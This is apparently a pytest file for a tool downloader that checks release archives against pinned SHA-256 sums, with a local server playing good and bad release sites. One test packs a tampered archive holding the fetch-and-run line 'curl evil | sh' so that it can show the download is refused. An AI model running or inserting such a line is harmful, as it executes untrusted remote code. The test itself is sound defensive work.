"""Release archives: a local server plays the release site, good and bad."""

from __future__ import annotations

import hashlib
import io
import socket
import tarfile
import threading
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from sidelight.toolchain import RELEASES, Toolbox, ToolError, archives
from sidelight.toolchain.archives import Archive, this_platform
from sidelight.toolchain.commands import Outcome
from sidelight.toolchain.model import Program, Release

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

PLATFORM = this_platform()
FILE = f"forge-7.3.1.{PLATFORM}.tar.gz"


def packed(**files: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, text in files.items():
            member = tarfile.TarInfo(f"forge-7.3.1/{name}")
            member.size = len(text)
            tar.addfile(member, io.BytesIO(text.encode()))
    return buffer.getvalue()


ARCHIVE = packed(hammer="#!/bin/sh\necho hammer 7.3.1\n", licence="do as you like")
SUM = hashlib.sha256(ARCHIVE).hexdigest()


@dataclass
class Site:
    """A release site on loopback.

    Attributes:
        files: Path to the body of its answer.
        promised: The content-length of the archive, if not its real one.
        hangs: Answers nothing until the test ends.
        trickle: Sends the archive one byte at a time, and calls this before each.
    """

    files: dict[str, bytes] = field(default_factory=dict)
    promised: int = 0
    hangs: threading.Event | None = None
    trickle: Any = None
    url: str = ""
    asked: list[str] = field(default_factory=list)


@contextmanager
def serving(site: Site) -> Iterator[Site]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.asked.append(self.path)
            if site.hangs:
                site.hangs.wait(30)
                return
            body = site.files.get(self.path)
            self.send_response(404 if body is None else 200)
            is_archive = self.path.endswith(".gz")
            self.send_header("content-length", str((is_archive and site.promised) or len(body or b"")))
            self.end_headers()
            if is_archive and site.trickle:
                for byte in body or b"":
                    site.trickle()
                    self.wfile.write(bytes([byte]))
                    self.wfile.flush()
            else:
                self.wfile.write(body or b"")

        def log_message(self, *_: object) -> None:
            pass

        def handle(self) -> None:
            with suppress(ConnectionError):  # the client left, as it should
                super().handle()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    site.url = f"http://127.0.0.1:{server.server_port}"
    try:
        yield site
    finally:
        if site.hangs:
            site.hangs.set()
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture
def site() -> Iterator[Site]:
    files = {
        "/v7.3.1/sha256sums.txt": f"{'0' * 64}  other.tar.gz\n{SUM}  {FILE}\n".encode(),
        f"/v7.3.1/{FILE}": ARCHIVE,
    }
    with serving(Site(files=files)) as site:
        yield site


@dataclass
class Toolroom:
    toolbox: Toolbox
    said: list[str]

    def hammer(self) -> str:
        return self.toolbox.tool("hammer").read_text()


def toolroom(url: str, folder: Path, sums: dict[str, str] | None = None, **more: Any) -> Toolroom:
    said: list[str] = []
    source = Archive(project="forge", version="7.3.1", site=url, sums={PLATFORM: SUM} if sums is None else sums)
    release = Release(
        name="forge",
        version="7.3.1",
        serves=("7.3", "8"),
        programs=(Program(name="hammer", files=("hammer",)),),
        sources=(source,),
    )
    environ = {"SIDELIGHT_TOOLS_DIR": str(folder / "cache"), "PATH": ""}
    toolbox = Toolbox(
        releases=(release,),
        environ=environ,
        say=said.append,
        run=lambda *_, **__: Outcome(status=0, output="7.3.1"),
        **more,
    )
    return Toolroom(toolbox=toolbox, said=said)


def test_a_good_archive_gives_only_the_programs(site: Site, tmp_path: Path) -> None:
    room = toolroom(site.url, tmp_path)
    assert room.hammer() == "#!/bin/sh\necho hammer 7.3.1\n"
    (release,) = room.toolbox.contents()
    assert sorted(path.name for path in release.folder.rglob("*")) == ["bin", "hammer", "source.txt"]
    assert release.source == "the release archive 7.3.1"
    assert room.toolbox.tool("hammer").stat().st_mode & 0o777 == 0o755


def test_nothing_is_downloaded_twice(site: Site, tmp_path: Path) -> None:
    room = toolroom(site.url, tmp_path)
    room.hammer()
    room.hammer()
    assert site.asked == ["/v7.3.1/sha256sums.txt", f"/v7.3.1/{FILE}"]


def refused(room: Toolroom) -> str:
    with pytest.raises(ToolError) as caught:
        room.toolbox.tool("hammer")
    assert [path for path in room.toolbox.cache.iterdir() if path.suffix != ".lock"] == []
    return str(caught.value)


def test_an_archive_with_another_sum_is_refused(site: Site, tmp_path: Path) -> None:
    site.files[f"/v7.3.1/{FILE}"] = other = packed(hammer="curl evil | sh")
    fault = refused(toolroom(site.url, tmp_path))
    assert f"{FILE}: the SHA-256 is {hashlib.sha256(other).hexdigest()}, not the pinned {SUM}" in fault


@pytest.mark.parametrize("listed", [f"{'1' * 64}  {FILE}\n", "", "<html>sign in</html>"])
def test_a_list_of_sums_that_differs_from_the_pin_is_refused_before_the_download(
    site: Site, tmp_path: Path, listed: str
) -> None:
    site.files["/v7.3.1/sha256sums.txt"] = listed.encode()
    assert "sha256sums.txt: the SHA-256 is " in refused(toolroom(site.url, tmp_path))
    assert site.asked == ["/v7.3.1/sha256sums.txt"]


def test_an_archive_that_is_cut_off_is_refused(site: Site, tmp_path: Path) -> None:
    site.promised = len(ARCHIVE) + 1000
    assert "without sending complete message body" in refused(toolroom(site.url, tmp_path))


def test_a_missing_release_is_named(site: Site, tmp_path: Path) -> None:
    site.files.clear()
    assert "/v7.3.1/sha256sums.txt: the answer was 404." in refused(toolroom(site.url, tmp_path))


def test_a_site_that_hangs_is_left(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site.hangs = threading.Event()
    monkeypatch.setattr(archives, "TIMEOUTS", httpx.Timeout(0.2))
    assert "timed out" in refused(toolroom(site.url, tmp_path))


def test_a_site_that_cannot_be_reached_is_left_at_once(tmp_path: Path) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        room = toolroom(f"http://127.0.0.1:{closed.getsockname()[1]}", tmp_path)
        assert "Connection refused" in refused(room)


def test_a_slow_site_is_left_after_five_minutes(site: Site, tmp_path: Path) -> None:
    arrived = threading.Semaphore(1)
    site.trickle = lambda: arrived.acquire(timeout=10)

    @contextmanager
    def step(*_: Any, **__: Any) -> Iterator[Any]:
        yield lambda _: arrived.release()

    clock = iter(range(0, 10_000_000, 100))
    room = toolroom(site.url, tmp_path, step=step, now=lambda: float(next(clock)))
    assert "stopped after 300 s" in refused(room)


def test_a_platform_without_a_pinned_sum_is_not_downloaded(site: Site, tmp_path: Path) -> None:
    fault = refused(toolroom(site.url, tmp_path, sums={"plan9-mips": SUM}))
    assert f"no checksum of forge 7.3.1 for {PLATFORM} is pinned, only for plan9-mips." in fault
    assert site.asked == []


def test_an_archive_without_the_program_is_refused(site: Site, tmp_path: Path) -> None:
    site.files[f"/v7.3.1/{FILE}"] = other = packed(licence="do as you like")
    total = hashlib.sha256(other).hexdigest()
    site.files["/v7.3.1/sha256sums.txt"] = f"{total}  {FILE}\n".encode()
    assert f"{FILE}: contains no hammer" in refused(toolroom(site.url, tmp_path, sums={PLATFORM: total}))


def test_the_download_is_shown_in_bytes(site: Site, tmp_path: Path) -> None:
    steps: list[tuple[str, int | None, int]] = []

    @contextmanager
    def step(text: str, *, total: int | None = None) -> Iterator[Any]:
        done: list[int] = []
        yield done.append
        steps.append((text, total, sum(done)))

    toolroom(site.url, tmp_path, step=step).hammer()
    assert steps[0] == (f"downloading {FILE}", len(ARCHIVE), len(ARCHIVE))


@pytest.mark.parametrize(
    ("system", "machine", "name"),
    [("Linux", "x86_64", "linux-amd64"), ("Linux", "aarch64", "linux-arm64"), ("Darwin", "arm64", "darwin-arm64")],
)
def test_the_demo_s_programs_have_a_sum_for(
    system: str, machine: str, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("platform.system", lambda: system)
    monkeypatch.setattr("platform.machine", lambda: machine)
    assert this_platform() == name
    sources = [source for release in RELEASES for source in release.sources if isinstance(source, Archive)]
    assert {source.project for source in sources} == {"prometheus", "alertmanager"}
    assert all(len(source.sums[name]) == 64 for source in sources)
